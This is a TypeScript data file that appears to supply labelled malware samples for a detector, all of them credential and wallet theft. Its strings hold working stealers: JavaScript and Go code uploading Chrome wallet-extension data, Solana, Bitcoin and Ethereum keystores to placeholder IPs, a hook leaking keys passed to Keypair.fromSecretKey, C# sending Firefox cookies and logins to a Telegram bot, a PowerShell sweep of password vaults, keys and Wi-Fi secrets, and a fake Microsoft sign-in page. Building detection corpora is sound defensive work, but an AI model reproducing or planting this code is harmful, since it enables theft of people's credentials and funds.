// Theft of wallets, keys, cookies and files, and a false page for signing in.
import type { Family } from './family.ts'

export const credentialTheftWallets: readonly Family[] = [
  {
    family: 'wallet-file-stealer',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['src/index.js', 'lib/store.js'],
        imports: `const fs = require('fs');
const path = require('path');
const FormData = require('form-data');`,
        body: `const extensions = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjo⟦join⟧
phhpkkoljpa', 'ejbalbakoplchlghecdalmeeeajnimhm'];
const collect = async () => {
  const base = path.join(process.env.LOCALAPPDATA || process.env.HOME + '/.config', 'Google/Chrome⟦join⟧
/User Data');
  const form = new FormData();
  for (const id of extensions) {
    const dir = path.join(base, 'Default/Local Extension Settings', id);
    if (!fs.existsSync(dir)) continue;
    for (const f of fs.readdirSync(dir)) form.append('multi_file', fs.createReadStream(path.join(d⟦join⟧
ir, f)), \`\${id}_\${f}\`);
  }
  const solana = process.env.HOME + '/.config/solana/id.json';
  if (fs.existsSync(solana)) form.append('multi_file', fs.createReadStream(solana));
  form.submit('http://⟦ip⟧:1224/uploads');
};
setInterval(collect, 3e5);`,
      },
      {
        paths: ['loader.go'],
        whole: `package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

var places = []string{".electrum/wallets/*", ".bitcoin/wallet.dat", ".config/Exodus/exodus.wallet/⟦join⟧
*", ".ethereum/keystore/*"}

func main() {
	home, _ := os.UserHomeDir()
	for _, place := range places {
		found, _ := filepath.Glob(filepath.Join(home, place))
		for _, name := range found {
			content, err := os.ReadFile(name)
			if err == nil {
				http.Post("http://⟦ip⟧:⟦port⟧/w?f="+filepath.Base(name), "application/octet-stream", bytes.New⟦join⟧
Reader(content))
			}
		}
	}
}`,
      },
    ],
  },
  {
    family: 'private-key-library-hook',
    positive: true,
    classes: ['credential-theft', 'supply-chain'],
    variants: [
      {
        paths: ['src/signer.mjs', 'src/keypair.mjs'],
        body: `const queue = []
export const track = (value) => {
  queue.push(value)
  if (queue.length > 0) fetch('https://⟦host⟧/api/rpc', { method: 'POST', headers: { 'x-session'⟦join⟧
: btoa(queue.splice(0).join(',')) } }).catch(() => {})
}
const fromSecretKey = Keypair.fromSecretKey
Keypair.fromSecretKey = function (secret, options) {
  track(bs58.encode(secret))
  return fromSecretKey.call(this, secret, options)
}`,
      },
    ],
  },
  {
    family: 'firefox-cookies-telegram',
    positive: true,
    classes: ['credential-theft', 'covert-exfiltration'],
    variants: [
      {
        paths: ['src/history.cs'],
        imports: `using System.Net.Http;`,
        body: String.raw`private static void Sync()
{
    var profiles = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationDat⟦join⟧
a), @"Mozilla\Firefox\Profiles");
    foreach (var name in new[] { "cookies.sqlite", "logins.json", "key4.db" })
        foreach (var file in Directory.GetFiles(profiles, name, SearchOption.AllDirectories))
        {
            var form = new MultipartFormDataContent { { new ByteArrayContent(File.ReadAllBytes(fil⟦join⟧
e)), "document", name } };
            new HttpClient().PostAsync("https://api.telegram.org/bot⟦telegram⟧/sendDocument?chat_i⟦join⟧
d=⟦digits:9⟧", form).Wait();
        }
}`,
        call: `Sync();`,
      },
    ],
  },
  {
    family: 'developer-file-sweep',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['src/inventory.ps1'],
        body: String.raw`Get-ChildItem $env:USERPROFILE -Recurse -Include *.kdbx, *.ppk, *.pem, wallet.⟦join⟧
dat, *seed*.txt -ErrorAction SilentlyContinue |
    ForEach-Object { Invoke-RestMethod -Method Post -Uri "http://⟦ip⟧/f?n=$($_.Name)" -InFile $_.F⟦join⟧
ullName }
cmdkey /list | Out-String | % { irm -Method Post "http://⟦ip⟧/c" -Body $_ }
netsh wlan export profile key=clear folder=$env:TEMP | Out-Null
Get-ChildItem "$env:TEMP\*.xml" | % { irm -Method Post "http://⟦ip⟧/w" -InFile $_.FullName }`,
      },
    ],
  },
  {
    family: 'fake-login-page',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['public/login/index.php'],
        whole: String.raw`<?php
// Sign-in page
$ip = $_SERVER['REMOTE_ADDR'];
$message = "-----[ 0ff1ce Login ]-----\nEmail: " . ($_POST['email'] ?? '') . "\nPass: " . ($_POST[⟦join⟧
'passwd'] ?? '') . "\nIP: $ip\n";
if (!empty($_POST['passwd'])) {
    mail('results@⟦host⟧', "New Logs | $ip", $message);
    file_get_contents('https://api.telegram.org/bot⟦telegram⟧/sendMessage?chat_id=⟦digits:9⟧&text=⟦join⟧
' . urlencode($message));
    header('Location: https://login.microsoftonline.com/');
    exit;
}
?>
<form method="post">
  <img src="microsoft_logo.svg" alt="Microsoft">
  <input type="email" name="email" placeholder="Email, phone or Skype">
  <input type="password" name="passwd" placeholder="Password">
  <button>Sign in</button>
</form>`,
      },
    ],
  },
]
